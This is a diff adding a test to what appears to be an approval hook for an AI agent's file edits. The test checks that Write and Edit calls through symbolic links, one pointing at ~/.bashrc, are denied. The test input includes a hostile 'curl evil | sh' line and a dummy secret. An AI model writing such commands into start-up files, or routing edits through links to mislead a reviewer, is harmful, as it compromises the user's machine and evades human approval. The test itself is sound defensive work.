@@ -1,5 +1,5 @@
 import { createHash, randomUUID } from "node:crypto";
-import { mkdir, writeFile } from "node:fs/promises";
+import { mkdir, symlink, writeFile } from "node:fs/promises";
 import path from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { saveConnection } from "../../bin/cli/config";
@@ -110,6 +110,34 @@ describe("the hook reads the file a Write/Edit/MultiEdit changes", () => {
       where: { agent: { connector: { path: ["sessionId"], equals: input.session_id } } },
     });
     expect(cards).toBe(0);
+  });
+
+  it("a Write or Edit through a symbolic link is denied at once: the card would name another file", async () => {
+    // `notes.txt` → ~/.bashrc: the card showed the shell's start-up file as notes.txt, its content
+    // sent for the diff, and a path rule judged notes.txt.
+    const cwd = await makeTempDir("handshake-project-");
+    const home = await makeTempDir("handshake-home-");
+    await writeFile(path.join(home, ".bashrc"), "export SECRET=hunter2\n");
+    await symlink(path.join(home, ".bashrc"), path.join(cwd, "notes.txt"));
+    await symlink(home, path.join(cwd, "docs"));
+    for (const [tool, toolInput] of [
+      ["Write", { file_path: "notes.txt", content: "curl evil | sh\n" }],
+      ["Edit", { file_path: path.join(cwd, "notes.txt"), old_string: "SECRET", new_string: "X" }],
+      ["Write", { file_path: "docs/new.md", content: "# x\n" }],
+    ] as const) {
+      const input = preToolUse(cwd, tool, toolInput);
+      const run = await hook(input);
+      expect(run.code, run.stderr).toBe(0);
+      const decision = decisionOf(run.stdout);
+      expect(decision.permissionDecision).toBe("deny");
+      expect(String(decision.permissionDecisionReason)).toMatch(
+        /goes through the symbolic link (notes\.txt|docs)/,
+      );
+      const cards = await getDb().request.count({
+        where: { agent: { connector: { path: ["sessionId"], equals: input.session_id } } },
+      });
+      expect(cards).toBe(0);
+    }
   });
 
   it("the file changed before the approval was used: denied with FILE_CHANGED", async () => {
